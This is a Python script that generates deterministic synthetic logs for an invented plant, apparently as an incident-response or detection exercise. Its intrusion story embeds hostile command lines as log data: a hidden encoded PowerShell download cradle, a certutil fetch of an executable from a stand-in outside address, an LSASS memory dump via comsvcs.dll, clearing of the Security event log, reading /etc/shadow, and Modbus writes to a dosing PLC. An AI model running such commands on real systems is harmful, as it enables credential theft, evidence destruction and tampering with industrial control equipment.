"""Make the logs of this estate anew: one working day and one bad night at the invented Example Works.

Every person, address and machine is invented (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, example.com). The records
are written as the products write them. The same seed gives the same bytes; run it after changing the story:

    python estates/firstlight/make_logs.py

The story, all times UTC, night of 2026-01-30: an intruder signs in to the cloud as Tom Sample from an address he has
never used (22:31), tries copied badges at the control building (22:47) and gets in with Tom's (22:58), logs on at the
engineering workstation EWS-07 (23:04), runs encoded PowerShell, fetches a tool, dumps credentials (23:06-23:11),
guesses a password on the jump host (23:15), and writes to the dosing PLC (23:25).
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

LOGS = Path(__file__).resolve().parent / "logs"
DAY = datetime(2026, 1, 30, tzinfo=UTC)

PEOPLE = {  # account: (name, badge, workstation, address)
    "ada.lindqvist": ("Ada Lindqvist", "0012001", "WS-041", "192.0.2.41"),
    "ines.example": ("Ines Example", "0012007", "WS-042", "192.0.2.42"),
    "tom.sample": ("Tom Sample", "0012044", "EWS-07", "192.0.2.66"),
    "ravi.invented": ("Ravi Invented", "0012058", "WS-044", "192.0.2.44"),
    "mara.nobody": ("Mara Nobody", "0012060", "WS-045", "192.0.2.45"),
}
DOORS = (("Main entrance", "R-01"), ("Canteen", "R-03"), ("Laboratory", "R-05"), ("Control building", "R-07"))
HMI, PLC, OUTSIDE = "192.0.2.140", "192.0.2.150", "203.0.113.66"
PROGRAMS = (
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"'),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer'),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe"),
    (r"C:\Program Files\Example SCADA\Engineer.exe", r'"C:\Program Files\Example SCADA\Engineer.exe" /project:dosing'),
)  # fmt: skip

rng = random.Random(20260130)


def at(clock: str, seconds: float = 0.0) -> datetime:
    """A moment of the day."""
    hour, minute, second = (int(part) for part in clock.split(":"))
    return DAY + timedelta(hours=hour, minutes=minute, seconds=second + seconds)


def iso(moment: datetime, digits: int = 3) -> str:
    text = moment.strftime("%Y-%m-%dT%H:%M:%S.%f")
    return text[: 20 + digits] + "Z"


# -- Windows, as Winlogbeat ships it

record_ids = itertools.count(184_001)


def windows(
    moment: datetime, host: str, provider: str, channel: str, code: int, data: dict[str, str]
) -> dict[str, Any]:
    return {
        "@timestamp": iso(moment),
        "agent": {"type": "winlogbeat", "version": "8.17.0", "name": host},
        "event": {"code": str(code), "kind": "event", "provider": provider},
        "host": {"name": f"{host.lower()}.example.com"},
        "winlog": {
            "api": "wineventlog",
            "channel": channel,
            "computer_name": f"{host}.example.com",
            "event_data": data,
            "event_id": str(code),
            "provider_name": provider,
            "record_id": next(record_ids),
        },
    }


def sysmon(moment: datetime, host: str, code: int, data: dict[str, str]) -> dict[str, Any]:
    data = {"RuleName": "-", "UtcTime": moment.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], **data}
    return windows(moment, host, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", code, data)


def guid(*parts: object) -> str:
    source = random.Random("|".join(map(str, parts)))
    return f"{{{source.randrange(16**8):08X}-2C4F-697D-{source.randrange(16**4):04X}-{source.randrange(16**12):012X}}}"


def process(
    moment: datetime, host: str, user: str, image: str, command: str, parent: tuple[str, str]
) -> dict[str, Any]:
    pid = rng.randrange(1000, 20000)
    return sysmon(moment, host, 1, {
        "ProcessGuid": guid(host, moment, image), "ProcessId": str(pid), "Image": image, "FileVersion": "10.0.22621.1",
        "Description": "-", "Product": "-", "Company": "-", "OriginalFileName": image.rpartition("\\")[2],
        "CommandLine": command, "CurrentDirectory": "C:\\Users\\" + user + "\\", "User": f"EXAMPLE\\{user}",
        "LogonGuid": guid(host, user), "LogonId": "0x7a1b2", "TerminalSessionId": "1", "IntegrityLevel": "High",
        "Hashes": f"SHA256={rng.randrange(16**64):064X},IMPHASH={rng.randrange(16**32):032X}",
        "ParentProcessGuid": guid(host, parent[0]), "ParentProcessId": str(rng.randrange(500, 5000)),
        "ParentImage": parent[0], "ParentCommandLine": parent[1], "ParentUser": f"EXAMPLE\\{user}",
    })  # fmt: skip


def logon(moment: datetime, host: str, user: str, kind: int, address: str) -> dict[str, Any]:
    return windows(moment, host, "Microsoft-Windows-Security-Auditing", "Security", 4624, {
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": f"{host}$", "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": "0x3e7", "TargetUserSid": "S-1-5-21-1004336348-1177238915-682003330-1144",
        "TargetUserName": user, "TargetDomainName": "EXAMPLE", "TargetLogonId": "0x7a1b2", "LogonType": str(kind),
        "LogonProcessName": "User32 ", "AuthenticationPackageName": "Negotiate", "WorkstationName": host,
        "LogonGuid": guid(host, user), "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0",
        "ProcessId": "0x2f4", "ProcessName": "C:\\Windows\\System32\\svchost.exe", "IpAddress": address, "IpPort": "0",
    })  # fmt: skip


def make_windows() -> None:
    records: list[tuple[datetime, dict[str, Any]]] = []
    explorer = (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE")
    for user, (_, _, host, _) in PEOPLE.items():
        start = at("07:55:00", rng.uniform(0, 1200))
        records.append((start, logon(start, host, user, 2, "127.0.0.1")))
        for _ in range(170):
            moment = start + timedelta(seconds=rng.uniform(30, 8.5 * 3600))
            image, command = rng.choice(PROGRAMS)
            records.append((moment, process(moment, host, user, image, command, explorer)))
    user, host = "tom.sample", "EWS-07"
    cmd = (r"C:\Windows\System32\cmd.exe", "cmd.exe")
    shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    payload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    for moment, made in (
        (at("23:04:10"), logon(at("23:04:10"), host, user, 2, "127.0.0.1")),
        (at("23:06:02"), process(at("23:06:02"), host, user, shell, f"powershell.exe -nop -w hidden -enc {payload}", cmd)),
        (at("23:07:40"), process(at("23:07:40"), host, user, r"C:\Windows\System32\certutil.exe",
            f"certutil.exe -urlcache -split -f http://{OUTSIDE}/t.bin C:\\Users\\Public\\t.exe", cmd)),
        (at("23:09:15"), process(at("23:09:15"), host, user, r"C:\Windows\System32\rundll32.exe",
            r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 676 C:\Users\Public\l.dmp full", cmd)),
        (at("23:11:30"), process(at("23:11:30"), host, user, r"C:\Windows\System32\wevtutil.exe", "wevtutil cl Security", cmd)),
        (at("23:11:31"), windows(at("23:11:31"), host, "Microsoft-Windows-Eventlog", "Security", 1102, {
            "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1144", "SubjectUserName": user,
            "SubjectDomainName": "EXAMPLE", "SubjectLogonId": "0x7a1b2"})),
    ):  # fmt: skip
        records.append((moment, made))
    records.sort(key=lambda pair: pair[0])
    lines = (json.dumps(made, sort_keys=True) for _, made in records)
    (LOGS / "windows.ndjson").write_text("\n".join(lines) + "\n", "utf-8")


# -- the jump host, syslog


def make_linux() -> None:
    lines: list[tuple[datetime, str]] = []

    def say(moment: datetime, program: str, pid: int, text: str) -> None:
        lines.append((moment, f"{moment.strftime('%b %e %H:%M:%S')} jump01 {program}[{pid}]: {text}"))

    for _ in range(40):
        moment = at("08:00:00", rng.uniform(0, 9 * 3600))
        user, (_, _, _, address) = rng.choice(list(PEOPLE.items()))
        short, pid, port = user.partition(".")[0], rng.randrange(2000, 9000), rng.randrange(40000, 60000)
        say(
            moment,
            "sshd",
            pid,
            f"Accepted publickey for {short} from {address} port {port} ssh2: ED25519 SHA256:{'x' * 43}",
        )
        later = moment + timedelta(seconds=2)
        say(later, "sshd", pid, f"pam_unix(sshd:session): session opened for user {short}(uid=1001) by (uid=0)")
        lines.append((later + timedelta(seconds=30), f"{(later + timedelta(seconds=30)).strftime('%b %e %H:%M:%S')} jump01 "
                      f"sudo:   {short} : TTY=pts/0 ; PWD=/home/{short} ; USER=root ; COMMAND=/usr/bin/systemctl status gateway"))  # fmt: skip
    for attempt in range(14):
        say(at("23:15:02", attempt * 2.1), "sshd", 9100 + attempt,
            f"Failed password for {'invalid user admin' if attempt < 6 else 'engineer'} from 192.0.2.66 port {51000 + attempt} ssh2")  # fmt: skip
    say(at("23:15:40"), "sshd", 9140, "Accepted password for engineer from 192.0.2.66 port 51040 ssh2")
    moment = at("23:16:05")
    lines.append((moment, f"{moment.strftime('%b %e %H:%M:%S')} jump01 sudo: engineer : TTY=pts/1 ; PWD=/home/engineer ; "
                  "USER=root ; COMMAND=/usr/bin/cat /etc/shadow"))  # fmt: skip
    lines.sort(key=lambda pair: pair[0])
    (LOGS / "jump01-auth.log").write_text("\n".join(line for _, line in lines) + "\n", "utf-8")


# -- the plant network, Zeek


def make_zeek() -> None:
    fields = ("ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "func", "exception")
    types = ("time", "string", "addr", "port", "addr", "port", "string", "string")
    rows: list[tuple[float, tuple[str, ...]]] = []
    for number in range(900):
        moment = (DAY + timedelta(seconds=number * 96 + rng.uniform(0, 3))).timestamp()
        func = "READ_HOLDING_REGISTERS" if rng.random() < 0.7 else "READ_COILS"
        rows.append((moment, (f"CHmi{number:04d}", HMI, "50200", PLC, "502", func, "-")))
        if number % 150 == 40:
            rows.append((moment + 1, (f"CHmw{number:04d}", HMI, "50200", PLC, "502", "WRITE_SINGLE_REGISTER", "-")))
    for number, func in enumerate(
        (
            "READ_DEVICE_IDENTIFICATION",
            "READ_HOLDING_REGISTERS",
            "WRITE_SINGLE_REGISTER",
            "WRITE_MULTIPLE_REGISTERS",
            "WRITE_SINGLE_COIL",
        )
    ):
        moment = at("23:25:10", number * 4.2).timestamp()
        rows.append((moment, (f"CEws{number:04d}", "192.0.2.66", f"{52100 + number}", PLC, "502", func, "-")))
    rows.sort(key=lambda pair: pair[0])
    head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", "#path\tmodbus",
            "#open\t2026-01-30-00-00-00", "#fields\t" + "\t".join(fields), "#types\t" + "\t".join(types)]  # fmt: skip
    body = [f"{moment:.6f}\t" + "\t".join(row) for moment, row in rows]
    (LOGS / "plant-modbus.log").write_text("\n".join([*head, *body, "#close\t2026-01-31-00-00-00"]) + "\n", "utf-8")


# -- the plant network, Suricata


def make_suricata() -> None:
    records: list[dict[str, Any]] = []

    def eve(moment: datetime, kind: str, source: str, target: str, port: int, **more: Any) -> None:
        records.append({
            "timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.%f+0000"), "flow_id": rng.randrange(10**15), "in_iface": "eth1",
            "event_type": kind, "src_ip": source, "src_port": rng.randrange(40000, 60000), "dest_ip": target,
            "dest_port": port, "proto": "TCP", **more,
        })  # fmt: skip

    for _ in range(260):
        moment = at("06:00:00", rng.uniform(0, 16 * 3600))
        _, (_, _, _, address) = rng.choice(list(PEOPLE.items()))
        eve(moment, "flow", address, "198.51.100.20", 443, app_proto="tls", flow={
            "pkts_toserver": 14, "pkts_toclient": 20, "bytes_toserver": rng.randrange(800, 9000),
            "bytes_toclient": rng.randrange(4000, 90000), "start": moment.strftime("%Y-%m-%dT%H:%M:%S.%f+0000"),
            "state": "closed", "reason": "timeout", "alerted": False})  # fmt: skip
    alert = {"action": "allowed", "gid": 1, "rev": 2, "severity": 1}
    eve(at("23:07:42"), "alert", "192.0.2.66", OUTSIDE, 80, app_proto="http",
        http={"hostname": OUTSIDE, "url": "/t.bin", "http_user_agent": "Microsoft-CryptoAPI/10.0", "http_method": "GET", "status": 200},
        alert={**alert, "signature_id": 1000001, "signature": "EXAMPLE certutil download from the plant network", "category": "A Network Trojan was detected"})  # fmt: skip
    eve(at("23:25:18"), "alert", "192.0.2.66", PLC, 502, app_proto="modbus",
        alert={**alert, "signature_id": 1000002, "signature": "EXAMPLE Modbus write from outside the control network", "category": "Attempted Administrator Privilege Gain"})  # fmt: skip
    records.sort(key=lambda record: str(record["timestamp"]))
    (LOGS / "plant-eve.json").write_text("".join(json.dumps(record) + "\n" for record in records), "utf-8")


# -- the cloud, Microsoft Entra sign-ins


def make_entra() -> None:
    records: list[dict[str, Any]] = []

    def sign_in(moment: datetime, user: str, address: str, code: int, reason: str, mfa: bool, country: str) -> None:
        name = PEOPLE[user][0]
        key = f"00000000-0000-4000-8000-{len(records):012d}"
        records.append({
            "time": iso(moment, 6), "resourceId": "/tenants/00000000-0000-4000-8000-0000000000a0/providers/Microsoft.aadiam",
            "operationName": "Sign-in activity", "operationVersion": "1.0", "category": "SignInLogs",
            "tenantId": "00000000-0000-4000-8000-0000000000a0", "resultType": str(code), "resultDescription": reason,
            "callerIpAddress": address, "correlationId": key, "identity": name, "Level": 4, "location": country,
            "properties": {
                "id": key, "createdDateTime": iso(moment, 6), "userDisplayName": name,
                "userPrincipalName": f"{user}@example.com", "userId": f"00000000-0000-4000-8000-{sum(map(ord, user)):012d}",
                "appId": "00000003-0000-4000-8000-00000000aaaa", "appDisplayName": "Office 365 Exchange Online",
                "ipAddress": address, "status": {"errorCode": code, "failureReason": reason}, "clientAppUsed": "Browser",
                "conditionalAccessStatus": "success" if code == 0 else "failure", "isInteractive": True,
                "authenticationRequirement": "multiFactorAuthentication" if mfa else "singleFactorAuthentication",
                "location": {"city": "Exampletown", "countryOrRegion": country}, "riskLevelDuringSignIn": "none",
                "riskState": "none", "deviceDetail": {"operatingSystem": "Windows10", "browser": "Edge 131.0"},
            },
        })  # fmt: skip

    for _ in range(60):
        user, (_, _, _, address) = rng.choice(list(PEOPLE.items()))
        sign_in(at("07:50:00", rng.uniform(0, 9 * 3600)), user, address, 0, "", True, "XE")
    for minute in range(3):
        sign_in(at("22:28:00", minute * 55), "tom.sample", OUTSIDE, 50126, "Invalid username or password.", False, "XZ")
    sign_in(at("22:31:20"), "tom.sample", OUTSIDE, 0, "", False, "XZ")
    records.sort(key=lambda record: str(record["time"]))
    (LOGS / "entra-signins.ndjson").write_text("".join(json.dumps(record) + "\n" for record in records), "utf-8")


# -- doors, the export of the access control system


def make_badges() -> None:
    rows: list[tuple[datetime, tuple[str, ...]]] = []

    def pass_door(moment: datetime, door: tuple[str, str], badge: str, direction: str) -> None:
        rows.append((moment, (*door, badge, "Access granted", direction)))
        verb = "Entered" if direction == "In" else "Exited"
        rows.append((moment + timedelta(seconds=3), (*door, badge, verb, direction)))

    for _, badge, _, _ in PEOPLE.values():
        arrived = at("07:40:00", rng.uniform(0, 900))
        pass_door(arrived, DOORS[0], badge, "In")
        for _ in range(7):
            pass_door(arrived + timedelta(seconds=rng.uniform(600, 8 * 3600)), rng.choice(DOORS[:3]), badge, "In")
        pass_door(arrived + timedelta(hours=8.8, seconds=rng.uniform(0, 900)), DOORS[0], badge, "Out")
    pass_door(at("09:12:00"), DOORS[3], PEOPLE["tom.sample"][1], "In")
    rows.append((at("13:20:11"), (*DOORS[2], PEOPLE["mara.nobody"][1], "Access denied - outside schedule", "In")))
    rows.append((at("22:47:05"), (*DOORS[3], "9912345", "Access denied - unknown card", "In")))
    rows.append((at("22:49:40"), (*DOORS[3], "9912346", "Access denied - unknown card", "In")))
    rows.append((at("22:51:12"), (*DOORS[3], "", "Door forced open", "")))
    pass_door(at("22:58:02"), DOORS[3], PEOPLE["tom.sample"][1], "In")
    rows.sort(key=lambda pair: pair[0])
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(("Date/Time", "Site", "Door", "Reader", "Card Number", "Event", "Direction"))
    for moment, (door, reader, badge, event, direction) in rows:
        writer.writerow((moment.strftime("%Y-%m-%d %H:%M:%S"), "Example Works", door, reader, badge, event, direction))
    (LOGS / "badges.csv").write_text(out.getvalue(), "utf-8")


if __name__ == "__main__":
    LOGS.mkdir(exist_ok=True)
    for make in (make_windows, make_linux, make_zeek, make_suricata, make_entra, make_badges):
        make()
